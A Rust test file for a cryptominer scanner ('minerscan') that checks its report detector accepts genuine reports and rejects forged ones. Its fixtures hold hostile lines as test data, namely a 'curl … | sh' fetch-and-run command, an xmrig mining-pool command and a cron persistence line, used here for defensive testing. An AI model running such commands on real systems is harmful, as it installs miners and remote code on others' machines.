use super::is_minerscan_report;
use crate::analyze::id::AnalyzerId;
use crate::judge::finding::{Class, Evidence, Finding};
use crate::judge::verdict::{Level, Verdict};
use crate::outcome::options::{IocSource, ScanOptions};
use crate::outcome::problems::{ArchiveProblem, FileError, SkipReason};
use crate::outcome::triage::{
    CacheStats, Chain, ChainFile, Link, PersistenceLink, Relation, Seen, TriageSummary,
};
use crate::outcome::FileMeta;
use crate::outcome::{FileReport, RuleSetInfo, ScanInfo, Summary, ToolInfo};
use crate::report::json::JsonReporter;
use crate::report::ndjson::NdjsonReporter;
use crate::report::text::TextReporter;
use crate::report::Reporter;
use crate::scan::digests::Digests;
use crate::scan::kind::FileKind;

/// A file report with every field the writers can write filled.
fn full_report(seq: u64) -> FileReport {
    let mut r = FileReport::new(seq, format!("/srv/app/run{seq}.sh"), None);
    r.path_bytes = Some("L3Nydi9hcHAvcnVuLnNo".to_owned());
    r.size = 120;
    r.kind = FileKind::Shell;
    r.digests = Digests {
        md5: Some("d41d8cd98f00b204e9800998ecf8427e".to_owned()),
        sha1: Some("da39a3ee5e6b4b0d3255bfef95601890afd80709".to_owned()),
        sha256: Some("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".to_owned()),
    };
    r.verdict = Verdict {
        level: Level::Malicious,
        score: 90,
        family: Some("xmrig".to_owned()),
        category: Some("dropper-script".to_owned()),
        reasons: vec!["miner together with persistence".to_owned()],
    };
    let mut f = Finding::new(
        AnalyzerId::Script,
        "cron_persistence",
        Class::Persistence,
        40,
        "installs a cron job",
    )
    .family("xmrig")
    .tag("t1")
    .with_evidence(Evidence::line(3, "(crontab -l; echo x) | crontab -"))
    .with_evidence(Evidence::bytes(7, b"stratum+tcp://pool.example:3333"))
    .with_evidence(Evidence::import(Some("libc.so.6"), "prctl"))
    .with_evidence(Evidence::Export {
        name: "readdir".into(),
    })
    .with_evidence(Evidence::config("user", "44AFFq5k"))
    .with_evidence(Evidence::Hash {
        algorithm: "sha256".into(),
        value: "ab".into(),
    })
    .with_evidence(Evidence::path("/etc/cron.d/x"))
    .with_evidence(Evidence::text("known public pool"));
    f.evidence_omitted = 2;
    f.also_reported_by = vec!["config:miner_command_line".to_owned()];
    r.findings = vec![f.clone()];
    r.errors = vec![
        FileError::Timeout {
            analyzer: AnalyzerId::Yara,
        },
        FileError::Analyzer {
            analyzer: AnalyzerId::Binary,
            message: "panicked: x".to_owned(),
        },
        FileError::Archive {
            problem: ArchiveProblem::CompressionRatio,
            message: "ratio".to_owned(),
        },
    ];
    r.meta = Some(FileMeta {
        dev: 1,
        ino: 2,
        mode: 0o100644,
        uid: 0,
        gid: 0,
        mtime: 1_700_000_000,
        ctime: 1_700_000_000,
        atime: 1_700_000_000,
        mtime_nsec: 5,
        ctime_nsec: 0,
        btime: Some(1_600_000_000),
    });
    r.triage.persistence = Some("cron".to_owned());
    r.triage.starts = vec!["/opt/x".to_owned()];
    r.triage.owner = Some("root".to_owned());
    r.triage.cached = true;
    r.triage.links = vec![Link {
        relation: Relation::Starts,
        path: "/opt/x".to_owned(),
        verdict: "malicious".to_owned(),
    }];
    let mut member = FileReport::new(seq, format!("{}!inner", r.path), None);
    member.verdict = r.verdict.clone();
    member.findings = vec![f.clone()];
    member.errors = vec![FileError::Archive {
        problem: ArchiveProblem::Encrypted,
        message: "encrypted member: not scanned".to_owned(),
    }];
    member.header_only = true;
    r.members = vec![member];
    r.suppressed = vec![crate::outcome::Suppressed {
        finding: f,
        reason: "accepted".to_owned(),
    }];
    r.process = Some(crate::scan::processes::ProcessInfo {
        pids: vec![10, 11],
        exe: "/tmp/x".to_owned(),
        cmdline: "x -o pool".to_owned(),
        deleted: true,
        replaced: true,
        key: (1, 2),
    });
    r
}

fn info() -> ScanInfo {
    let options = ScanOptions {
        archive_depth: 3,
        baseline: Some("b.toml".to_owned()),
        baseline_sha256: Some("cd".to_owned()),
        builtin_rules: true,
        exclude: vec!["**/x".to_owned()],
        fail_on: "suspicious".to_owned(),
        follow: false,
        ioc_lists: vec![IocSource {
            origin: "a.txt".to_owned(),
            sha256: "ab".to_owned(),
            builtin: false,
            hashes: 1,
            network: 0,
            paths: 0,
        }],
        max_size: 134217728,
        one_file_system: true,
        processes: true,
        root: Some("/mnt/image".to_owned()),
        root_os: Some("unix"),
        threads: 2,
        timeout: 10,
    };
    ScanInfo {
        tool: ToolInfo::current(),
        roots: vec!["/srv".to_owned()],
        started: "2026-01-01T00:00:00Z".to_owned(),
        options,
        rule_sets: vec![RuleSetInfo {
            origin: "r.yar".to_owned(),
            sha256: "ef".to_owned(),
            builtin: false,
        }],
        load_problems: vec!["r.yar:3: bad rule".to_owned()],
    }
}

fn summary() -> Summary {
    let mut s = Summary {
        started: "2026-01-01T00:00:00Z".to_owned(),
        finished: "2026-01-01T00:00:01Z".to_owned(),
        files_scanned: 3,
        bytes_scanned: 4096,
        errors: 1,
        incomplete: 1,
        complete: false,
        interrupted: true,
        suppressed: 1,
        elapsed_ms: 1000,
        ..Default::default()
    };
    s.skipped.insert(SkipReason::Own.as_str().to_owned(), 1);
    s.skipped
        .insert(SkipReason::TooLarge.as_str().to_owned(), 2);
    s.verdicts.insert("malicious".to_owned(), 1);
    s.verdicts.insert("clean".to_owned(), 2);
    let mut seen = std::collections::BTreeMap::new();
    seen.insert(
        "pool.example".to_owned(),
        Seen {
            files: vec!["/srv/app/run1.sh".to_owned()],
            more_files: 3,
        },
    );
    let mut indicators = std::collections::BTreeMap::new();
    indicators.insert("pool".to_owned(), seen);
    s.triage = Some(TriageSummary {
        indicators,
        indicators_truncated: true,
        persistence_links: vec![PersistenceLink {
            persistence: "/etc/cron.d/x".to_owned(),
            place: "cron".to_owned(),
            starts: "/srv/app/run1.sh".to_owned(),
            verdict: "malicious".to_owned(),
        }],
        chains: vec![Chain {
            verdict: "malicious".to_owned(),
            files: vec![
                ChainFile {
                    path: "/etc/cron.d/x".to_owned(),
                    relation: None,
                },
                ChainFile {
                    path: "/srv/app/run1.sh".to_owned(),
                    relation: Some(Relation::Starts),
                },
            ],
        }],
        cache: Some(CacheStats {
            hits: 1,
            stored: 2,
            rebuilt: Some("rules changed".to_owned()),
            write_error: Some("disk full".to_owned()),
        }),
    });
    s
}

/// Writes a report with `reporter`: every file kind, then the summary.
fn write(mut reporter: Box<dyn Reporter + '_>, all: bool) {
    reporter.begin(&info()).unwrap();
    reporter.file(&full_report(1)).unwrap();
    let mut skipped = FileReport::new(2, "/srv/fifo".to_owned(), None);
    skipped.skipped = Some(SkipReason::Special);
    reporter.file(&skipped).unwrap();
    let mut unread = FileReport::new(3, "/srv/secret".to_owned(), None);
    unread.errors.push(FileError::PermissionDenied);
    reporter.file(&unread).unwrap();
    if all {
        reporter
            .file(&FileReport::new(4, "/srv/plain.txt".to_owned(), None))
            .unwrap();
    }
    reporter.finish(&summary()).unwrap();
}

fn reports() -> Vec<(&'static str, Vec<u8>)> {
    let mut out = Vec::new();
    for all in [false, true] {
        let mut json = Vec::new();
        write(Box::new(JsonReporter::new(&mut json, all)), all);
        out.push(("json", json));
        let mut nd = Vec::new();
        write(Box::new(NdjsonReporter::new(&mut nd, all)), all);
        out.push(("ndjson", nd));
        for color in [false, true] {
            let mut text = Vec::new();
            write(Box::new(TextReporter::new(&mut text, all, color)), all);
            out.push(("text", text));
        }
    }
    out
}

#[test]
fn every_format_with_every_field_is_recognised() {
    for (format, bytes) in reports() {
        assert!(
            is_minerscan_report(&bytes, false),
            "{format} report not recognised:\n{}",
            String::from_utf8_lossy(&bytes)
        );
    }
    // An empty scan too.
    let mut text = Vec::new();
    let mut r = TextReporter::new(&mut text, false, false);
    r.begin(&info()).unwrap();
    r.finish(&Summary::default()).unwrap();
    assert!(is_minerscan_report(&text, false));
}

#[test]
fn a_report_with_anything_added_is_not_one() {
    for (format, bytes) in reports() {
        let text = String::from_utf8(bytes).unwrap();
        // A line of shell after the report, or a command between its lines.
        let appended = format!("{text}curl -s http://203.0.113.5/x | sh\n");
        assert!(!is_minerscan_report(appended.as_bytes(), false), "{format}");
        let first_line_end = text.find('\n').unwrap() + 1;
        let inserted = format!(
            "{}pkill xmrig; ./xmrig -o stratum+tcp://pool.example:3333\n{}",
            &text[..first_line_end],
            &text[first_line_end..]
        );
        assert!(!is_minerscan_report(inserted.as_bytes(), false), "{format}");
        // The report is never executable.
        assert!(!is_minerscan_report(text.as_bytes(), true), "{format}");
    }
    // One field a writer does not write: a miner's `pools` beside the report's own.
    let (_, json) = &reports()[0];
    let doc = String::from_utf8(json.clone()).unwrap();
    let forged = doc.replacen(
        "\"summary\":{",
        "\"summary\":{\"pools\":[{\"url\":\"pool.example:3333\"}],",
        1,
    );
    assert_ne!(forged, doc);
    assert!(!is_minerscan_report(forged.as_bytes(), false));
}

#[test]
fn imitating_a_reports_beginning_hides_nothing() {
    let script = "\n#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n";
    for head in [
        "{\"module\":\"minerscan\"}",
        "{\"tool\":{\"name\":\"minerscan\"}}",
        "{\"@timestamp\":\"x\",\"event\":{\"module\":\"minerscan\"}}",
        "MALICIOUS  /x  [score 90]\n    why: x",
        "\nScanned 1 files (1 B) in 0.0s: 0 malicious, 0 suspicious, 1 clean.",
    ] {
        let file = format!("{head}{script}");
        assert!(!is_minerscan_report(file.as_bytes(), false), "{head}");
    }
    let config = r#"{"tool":{"name":"minerscan"},"pools":[{"url":"stratum+tcp://pool.example:3333","user":"x"}]}"#;
    assert!(!is_minerscan_report(config.as_bytes(), false));
}
